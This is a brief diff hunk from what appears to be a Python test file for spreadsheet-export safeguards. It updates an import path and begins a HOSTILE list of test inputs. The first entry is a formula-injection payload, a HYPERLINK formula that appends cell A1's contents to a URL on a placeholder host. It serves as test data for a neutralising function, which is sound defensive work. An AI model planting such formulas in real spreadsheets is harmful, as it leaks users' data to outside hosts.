@@ -12,7 +12,7 @@ import openpyxl
 import polars as pl
 import pytest
 
-from pipelines.spreadsheets import neutralise_cell, private_dir, restore_cell, write_csv, write_xlsx
+from pipelines.core.spreadsheets import neutralise_cell, private_dir, restore_cell, write_csv, write_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
